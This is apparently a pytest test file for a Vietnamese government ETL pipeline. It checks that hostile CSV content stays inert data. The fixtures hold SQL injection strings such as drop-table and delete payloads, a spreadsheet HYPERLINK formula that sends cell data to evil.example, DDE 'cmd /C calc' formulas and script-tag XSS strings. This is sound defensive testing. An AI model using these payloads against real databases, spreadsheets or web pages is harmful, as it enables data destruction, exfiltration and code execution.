"""Hostile input stays data (issue 7, item 5).

One landing folder of files whose headers, cells and names carry quotes, semicolons, SQL
(`'); drop table raw.dossier_stats; --`), dollar quotes, psycopg placeholders, a COPY end-of-data
marker, 100,000-character strings, control characters (\\x01, ESC, NUL), right-to-left overrides
and spreadsheet formula prefixes (= + - @) goes through the real `reform-etl load` (loader, GX
validation, run report) in one run. Each value loads as text (or its row is quarantined with a
named rule), nothing executes, every table is still there, and the report neutralises formula
prefixes in its CSV exports and escapes its HTML.

`test_no_sql_is_built_from_file_content` scans reform_etl/ for SQL built by string formatting and
allows only names that come from code (kind specs, rule catalog, integers, psycopg.sql).
"""

from __future__ import annotations

import ast
import csv
import random
import re
import string
import unicodedata
from pathlib import Path

import psycopg
import pytest

from reform_etl import cli
from reform_etl.kinds import KIND_SPECS
from reform_etl.report import FORMULA_PREFIXES

REPO = Path(__file__).resolve().parents[1]
# 100,000 characters Postgres cannot compress much (so they reach an index at full size).
LONG = "".join(random.Random(7).choice(string.ascii_letters + string.digits + "ĐđạấờỹÂ") for _ in range(100_000))
HOSTILE = {
    "quotes": "Báo cáo \"số 1\" của 'UBND'; đã ký; \"\"'",
    "drop_table": "'); drop table raw.dossier_stats; --",
    "delete_registry": "1'; delete from audit.submission_files where '1'='1",
    "dollar": "$$ language plpgsql; drop table raw.par_scores; $$",
    "dollar_tag": "$x$); drop table raw.par_scores; --$x$",
    "placeholders": "%s %(x)s {0} {} %% \\N \\.",
    "long": LONG,
    "control": "a\x01b\x1b[31mred\x1b[0m\x7fc",
    "nul": "trước\x00sau",
    "rtl": "\u202egpj.exe báo cáo",
    "formula_eq": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "formula_plus": "+SUM(1,2)",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "html": "<script>alert(1)</script>",
}
HOSTILE_HEADERS = ["'); drop table raw.par_scores; --", '=HYPERLINK("http://evil.example","x")', "$$;select 1;$$",
                   "ghi chú \"trích\"; 'dẫn'", "\u202eedoc_tinu", "tab\x01\x1bheader", "L" + LONG[:99_999],
                   "+SUM(1)", "-1+1", "@cmd", "nul\x00header"]
SEMICOLONS = "QĐ 1/QĐ-UBND; QĐ 2; BC 3; BC 4; KH 5; CV 6; TB 7; 'x'; --"
CRITERIA = ["1.1.1", "1.1.2", "1.2.1", "1.2.2", "1.3.1", "1.3.2", "1.4.1", "1.4.2", "1.5.1", "1.5.2", "1.6.1", "1.6.2",
            "2.1.1", "2.1.2", "2.2.1", "2.2.2", "2.3.1", "2.3.2", "2.4.1", "2.4.2", "2.5.1", "2.5.2"]
STATS = ["unit_code", "period", "field_code", "received_carried_over", "received_online", "received_direct",
         "received_postal", "resolved_early", "resolved_on_time", "resolved_late", "pending_in_time",
         "pending_overdue"]
# File names an auditor opens in Excel and a browser: formula prefixes and markup.
EVIL_NAMES = ["=HYPERLINK(1)<img src=x onerror=alert(1)>.csv", "+cmd.csv", "-cmd.csv", "@cmd.csv"]


def stored(value: str) -> str:
    """What raw must hold: the text as it arrived, NFC, trimmed; NUL (which Postgres text cannot hold) as U+FFFD."""
    return unicodedata.normalize("NFC", value).replace("\x00", "\ufffd").strip()


def stored_code(value: str) -> str:
    """A unit cell as raw holds it: one that is not code-shaped is kept as it arrived, trimmed (SPEC §5;
    only a code-shaped cell is respaced and padded)."""
    return stored(value).strip(" ")


def _write(path: Path, rows: list[list]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


@pytest.fixture(scope="module")
def landing(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "landing"
    # par_scores: every hostile value as evidence (a text cell), hostile extra headers; one hostile
    # criterion code and one formula as a score, which the rules quarantine.
    par = [["Mã đơn vị", "Năm", "Mã tiêu chí", "Điểm tự đánh giá", "Tài liệu kiểm chứng", *HOSTILE_HEADERS]]
    for code, value in zip(CRITERIA, HOSTILE.values(), strict=False):  # rows 2 .. len(HOSTILE) + 1
        par.append(["227", "2024", code, "0.5", value, *["x"] * len(HOSTILE_HEADERS)])
    par.append(["227", "2024", HOSTILE["drop_table"], "0.5", "mã tiêu chí độc", *[""] * len(HOSTILE_HEADERS)])
    par.append(["227", "2024", CRITERIA[-1], "=1+1", HOSTILE["formula_eq"], *[""] * len(HOSTILE_HEADERS)])
    _write(root / "par_scores" / "hostile_evidence.csv", par)

    # A comma CSV whose quoted evidence lists documents with more ';' than the header has commas.
    _write(root / "par_scores" / "semicolons_in_evidence.csv",
           [["unit_code", "year", "criterion_code", "self_score", "evidence"],
            *[["227", "2024", code, "0.25", SEMICOLONS] for code in CRITERIA[:3]]])

    # dossiers: every hostile value as a dossier's status (a text cell).
    dossiers = [["dossier_id", "unit_code", "field_code", "procedure_code", "channel", "received_at", "due_at",
                 "completed_at", "status", "satisfied"]]
    for n, value in enumerate(HOSTILE.values()):
        dossiers.append([f"04792-2609-9{n:04d}", "04792", "TG", "1.001247", "online", "22/09/2026 10:52",
                         "02/10/2026 10:52", "29/09/2026 10:52", value, "có"])
    _write(root / "dossiers" / "hostile_status.csv", dossiers)

    # dossier_stats: hostile unit codes (quarantined as unknown units), a COPY end-of-data marker alone
    # on a line with a good row after it.
    good = ["0", "5", "5", "0", "4", "4", "0", "2", "0"]
    stats = [[*STATS, *HOSTILE_HEADERS[:4]],
             ["227", "2024-07", "", *good, *HOSTILE_HEADERS[:4]],
             [HOSTILE["formula_eq"], "2024-07", "", *good],
             [HOSTILE["drop_table"], "2024-07", "", *good],
             ["\\."],
             ["227", "2024-08", "", "2", "5", "5", "0", "4", "6", "0", "2", "0"]]
    _write(root / "dossier_stats" / "hostile_units.csv", stats)
    # A 100k-character unit code: no code, and too long for the lookup indexes.
    _write(root / "dossier_stats" / "long_unit_code.csv",
           [STATS, ["227", "2024-09", "", *good], [LONG, "2024-09", "", *good]])

    for n, name in enumerate(EVIL_NAMES):
        _write(root / "it_kpis" / name, [["unit_code", "period", "kpi_code", "numerator", "denominator"],
                                         ["227", f"2024-0{n + 1}", "DVC_TOAN_TRINH", "1", "2"],
                                         ["227", f"2024-0{n + 1}", HOSTILE["formula_at"], "1", "2"]])
    return root


@pytest.fixture(scope="module")
def run(warehouse_dsn: str, landing: Path, tmp_path_factory) -> dict:
    tmp = tmp_path_factory.mktemp("hostile-out")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("WAREHOUSE_DSN", warehouse_dsn)
        mp.setenv("REFORM_ARCHIVE", str(tmp / "archive"))
        mp.setenv("REFORM_REPORTS", str(tmp / "reports"))
        code = cli.main(["load", str(landing), "--landing", str(landing)])
    with psycopg.connect(warehouse_dsn) as conn:
        run_id = conn.execute("select run_id from audit.pipeline_runs order by started_at desc limit 1").fetchone()[0]
        files = {name: (file_id, status, error) for file_id, name, status, error in conn.execute(
            "select file_id, file_name, status, error from audit.submission_files")}
    from reform_etl.report import safe_dir_name

    return {"code": code, "run_id": run_id, "files": files, "report": tmp / "reports" / safe_dir_name(run_id)}


def test_the_run_completes_and_every_table_is_still_there(run, db):
    assert run["code"] == 0
    assert db.execute("select status from audit.pipeline_runs where run_id = %s", (run["run_id"],)).fetchone() == (
        "success",)
    for schema in ("raw", "quarantine"):
        for kind in KIND_SPECS:
            assert db.execute("select to_regclass(%s)", (f"{schema}.{kind}",)).fetchone()[0] is not None
    for table in ("audit.submission_files", "audit.submission_partitions", "audit.validation_results",
                  "audit.pipeline_runs"):
        assert db.execute("select to_regclass(%s)", (table,)).fetchone()[0] is not None
    assert len(run["files"]) == 5 + len(EVIL_NAMES)  # nothing deleted from the registry
    statuses = {name: status for name, (_, status, _) in run["files"].items()}
    assert statuses.pop("long_unit_code.csv") == "rejected"
    assert set(statuses.values()) == {"accepted"}, statuses


def _raw(db, kind: str, file_id: int, column: str) -> dict[int, str | None]:
    from psycopg import sql

    return dict(db.execute(sql.SQL("select _row_number, {} from {} where _file_id = %s").format(
        sql.Identifier(column), sql.Identifier("raw", kind)), (file_id,)).fetchall())


def test_hostile_text_cells_are_kept_as_data(run, db):
    file_id, status, error = run["files"]["hostile_evidence.csv"]
    assert status == "accepted", error
    evidence = _raw(db, "par_scores", file_id, "evidence")
    assert len(HOSTILE) < len(CRITERIA)
    for row, value in enumerate(HOSTILE.values(), start=2):
        assert evidence[row] == stored(value), row
    assert len(evidence[list(HOSTILE).index("long") + 2]) == 100_000
    assert "\ufffd" in evidence[list(HOSTILE).index("nul") + 2]

    file_id, status, error = run["files"]["hostile_status.csv"]
    assert status == "accepted", error
    statuses = _raw(db, "dossiers", file_id, "status")
    assert [statuses[row] for row in sorted(statuses)] == [stored(v) for v in HOSTILE.values()]
    # text cells break no rule: every hostile row loads, none is quarantined
    assert db.execute("select count(*) from quarantine.dossiers where _file_id = %s", (file_id,)).fetchone() == (0,)


def test_semicolons_in_a_comma_csv_cell_are_text(run, db):
    file_id, status, error = run["files"]["semicolons_in_evidence.csv"]
    assert status == "accepted", error
    assert set(_raw(db, "par_scores", file_id, "evidence").values()) == {SEMICOLONS}


def test_hostile_codes_are_quarantined_with_a_named_rule(run, db):
    file_id, _, _ = run["files"]["hostile_evidence.csv"]
    failed = dict(db.execute(
        "select _row_number, array(select r->>'rule' from jsonb_array_elements(failed_rules) r order by 1) "
        "from quarantine.par_scores where _file_id = %s", (file_id,)).fetchall())
    last = len(HOSTILE) + 1  # the last hostile evidence row; two hostile codes follow it
    assert failed == {last + 1: ["criterion_code_unknown"], last + 2: ["score_not_numeric"]}
    assert db.execute("select criterion_code from quarantine.par_scores where _file_id = %s and _row_number = %s",
                      (file_id, last + 1)).fetchone() == (HOSTILE["drop_table"],)

    file_id, status, error = run["files"]["hostile_units.csv"]
    assert status == "accepted", error
    units = _raw(db, "dossier_stats", file_id, "unit_code")
    assert units[3] == stored_code(HOSTILE["formula_eq"]) and units[4] == stored_code(HOSTILE["drop_table"])
    quarantined = dict(db.execute(
        "select _row_number, failed_rules @> '[{\"rule\": \"unit_code_unknown\"}]' from quarantine.dossier_stats "
        "where _file_id = %s", (file_id,)).fetchall())
    assert quarantined.get(3) and quarantined.get(4) and 2 not in quarantined and 6 not in quarantined
    # the row after the COPY end-of-data marker (row 5) was not cut off
    assert db.execute("select period from raw.dossier_stats where _file_id = %s and _row_number = 6",
                      (file_id,)).fetchone() == ("2024-08",)


def test_a_100k_character_code_rejects_its_file_with_a_reason(run, db):
    file_id, status, error = run["files"]["long_unit_code.csv"]
    assert status == "rejected"
    assert "unit_code" in error and "100000" in error and "row 3" in error, error
    assert db.execute("select count(*) from raw.dossier_stats where _file_id = %s", (file_id,)).fetchone() == (0,)


def test_hostile_headers_are_ignored_columns_not_sql(run, db):
    file_id, _, _ = run["files"]["hostile_evidence.csv"]
    mapping = db.execute("select header_mapping from audit.submission_files where file_id = %s",
                         (file_id,)).fetchone()[0]
    assert set(mapping.values()) == {"unit_code", "year", "criterion_code", "self_score", "evidence"}
    assert db.execute("select count(*) from raw.par_scores where _file_id = %s", (file_id,)).fetchone() == (
        len(HOSTILE) + 2,)


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:  # `;` with a BOM, as Excel in Vietnam opens it
        return [cell for row in csv.reader(handle, delimiter=";") for cell in row]


def test_report_exports_neutralise_formula_prefixes(run):
    for export in ("findings.csv", "quarantine.csv"):
        cells = _csv_cells(run["report"] / export)
        dangerous = [c[:60] for c in cells if c.startswith(FORMULA_PREFIXES)]
        assert not dangerous, (export, dangerous)
        for name in EVIL_NAMES:  # each file had a quarantined row: its name is in both exports, quoted
            assert "'" + name in cells, (export, name)


def test_report_html_is_escaped(run):
    page = (run["report"] / "index.html").read_text(encoding="utf-8")
    assert "<img src=x" not in page and "<script>alert" not in page
    assert "=HYPERLINK(1)&lt;img src=x onerror=alert(1)&gt;.csv" in page
    docs = list((run["report"] / "data_docs").rglob("*.html"))
    assert docs  # GX Data Docs of the run: their sample rows show the hostile cells too
    for path in docs:
        text = path.read_text(encoding="utf-8")
        assert "<script>alert(1)" not in text and "<img src=x" not in text, path


# ------------------------------------------------------------------ code scan

SQL_WORDS = re.compile(r"\b(select|insert|update|delete|create|drop|alter|copy|analyze|grant|revoke|set|truncate)\b",
                       re.IGNORECASE)
# Every name interpolated into SQL text by string formatting, per module, and why it is safe: each comes
# from code (kind specs, the rule catalog, constants) or is an int, a validated identifier, or is quoted.
ALLOWED = {
    "reform_etl/units.py": {"_digits(province_code)": "checked to be digits by _digits()",
                            "table": "one of two registry table names in code",
                            "prefix": "one of two registry column prefixes in code ('district', 'ward')"},
    "reform_etl/validation/project.py": {"cols + ', ' if cols else ''": "rule.columns of the catalog",
                                         "rule.observed": "catalog SQL", "rule.predicate": "catalog SQL",
                                         "kind": "a KIND_SPECS key", "rule_name": "catalog rule name, quoted",
                                         "FILE_ID": "a constant of the module"},
    "reform_etl/reference.py": {"table": "audit.ref_* table name, a key of LOOKUP_TABLES in code",
                                "columns": "column list from LOOKUP_TABLES in code"},
    "reform_etl/report/csv_files.py": {"cols": "q.<column> of KIND_SPECS[kind].keys", "kind": "a KIND_SPECS key"},
    "reform_etl/validation/verdict.py": {
        "kind": "a KIND_SPECS key (checked: `kind in KIND_SPECS`)",
        "table": "'<schema>.<kind>' built from KIND_SPECS keys in this module",
        "rows_src": "built from a KIND_SPECS key and int(file_id)",
        "int(file_id)": "an integer",
        "predicate": "rule predicate from the rule catalog (validation/rules.py)",
        "_lit(rule.name)": "catalog constant, quoted by _lit", "_lit(str(rule.severity))": "catalog constant",
        "_lit(rule.message_vi)": "catalog constant", "_lit(rule.message_en)": "catalog constant",
        "rule.observed": "catalog SQL expression", "cols": "KIND_SPECS keys", "rcols": "KIND_SPECS keys",
        "', '.join(cases)": "built above from the catalog", "_lit(run_id)": "the run id, quoted by _lit",
        "file_id": "int(file_id)",
        "flags": "catalog predicates", "failed": "catalog names, words (quoted by _lit) and observed SQL",
        "any_failed": "generated column names _f<n>",
        "distinct": "catalog SQL: the distinct values of KIND_SPECS columns of the file (rows_src)",
        "column": "a column a catalog set names (a KIND_SPECS key)",
        "cells": "built above from catalog columns and rows_src",
        "named": "catalog predicates named _f<n>",
        "placeholders": "parameter placeholders (%s), one per column of a set: its values go as parameters",
    },
}


# Modules that build SQL text from code alone: they import nothing that reads files or the database
# (checked below), so no file content can reach the text they build. rules.py is the rule catalog, written
# in the other three.
CATALOG_MODULES = ("rules", "rule_sql", "row_rules", "cross_file_rules")
PURE_SQL_MODULES = {f"reform_etl/validation/{name}.py" for name in CATALOG_MODULES}
# reform_etl.deadlines: the deadline settings of dbt_project.yml (code), never file content.
PURE_IMPORTS = {"__future__", "dataclasses", "enum", "re", "reform_etl.kinds", "reform_etl.deadlines",
                *(f"reform_etl.validation.{name}" for name in CATALOG_MODULES)}


def _imports_and_calls(tree: ast.AST) -> tuple[set[str], set[str]]:
    imports, calls = set(), set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imports |= {a.name for a in node.names}
        elif isinstance(node, ast.ImportFrom):
            imports.add(node.module or "")
        elif isinstance(node, ast.Call):
            func = node.func
            calls.add(func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", ""))
    return imports, calls


def _formatted_sql(tree: ast.AST) -> list[tuple[int, str]]:
    """(line, interpolated expression) of every f-string / .format() / % / + whose text looks like SQL."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            text = "".join(v.value for v in node.values if isinstance(v, ast.Constant))
            if SQL_WORDS.search(text) and re.search(r"\b(from|into|table|values|where|on)\b", text, re.I):
                found += [(node.lineno, ast.unparse(v.value)) for v in node.values
                          if isinstance(v, ast.FormattedValue)]
        elif (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format"
              and isinstance(node.func.value, ast.Constant) and isinstance(node.func.value.value, str)
              and SQL_WORDS.search(node.func.value.value)):
            found += [(node.lineno, ast.unparse(a)) for a in [*node.args, *(k.value for k in node.keywords)]]
        elif (isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod | ast.Add)
              and isinstance(node.left, ast.Constant) and isinstance(node.left.value, str)
              and SQL_WORDS.search(node.left.value) and " " in node.left.value):
            found.append((node.lineno, ast.unparse(node.right)))
    return found


def _sql_calls_with_computed_text(tree: ast.AST) -> list[tuple[int, str]]:
    """execute()/copy()/sql.SQL() whose SQL argument is neither a literal nor composed with psycopg.sql."""
    out = []
    for node in ast.walk(tree):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.args):
            continue
        if node.func.attr == "SQL":
            arg = node.args[0]
            if not (isinstance(arg, ast.Constant) or (isinstance(arg, ast.Subscript)
                                                        and ast.unparse(arg).startswith("NORMALISE_SQL["))):
                out.append((node.lineno, ast.unparse(arg)))
    return out


def test_no_sql_is_built_from_file_content():
    """Every value that reaches SQL from a file goes through parameters (%s), COPY, or psycopg.sql.Identifier;
    string formatting into SQL text is allowed only for the code constants listed in ALLOWED."""
    problems = []
    for path in sorted((REPO / "reform_etl").rglob("*.py")):
        module = path.relative_to(REPO).as_posix()
        tree = ast.parse(path.read_text(encoding="utf-8"))
        if module in PURE_SQL_MODULES:
            imports, calls = _imports_and_calls(tree)
            assert imports <= PURE_IMPORTS, (module, imports - PURE_IMPORTS)
            assert not calls & {"open", "read_text", "read_bytes", "connect", "execute", "input"}, module
            continue
        allowed = ALLOWED.get(module, {})
        for line, expression in _formatted_sql(tree):
            if expression not in allowed:
                problems.append(f"{module}:{line}: SQL text formatted with `{expression}`")
        for line, expression in _sql_calls_with_computed_text(tree):
            problems.append(f"{module}:{line}: sql.SQL() of a computed string `{expression}`")
    assert not problems, "\n".join(problems)


def test_the_scan_catches_sql_built_from_a_value():
    bad = ast.parse('conn.execute(f"select * from raw.{kind} where unit_code = \'{cell}\'")\n'
                    'conn.execute("delete from raw.x where a = \'%s\'" % value)\n'
                    'conn.execute(sql.SQL(user_text))\n')
    assert [e for _, e in _formatted_sql(bad)] == ["kind", "cell", "value"]
    assert [e for _, e in _sql_calls_with_computed_text(bad)] == ["user_text"]
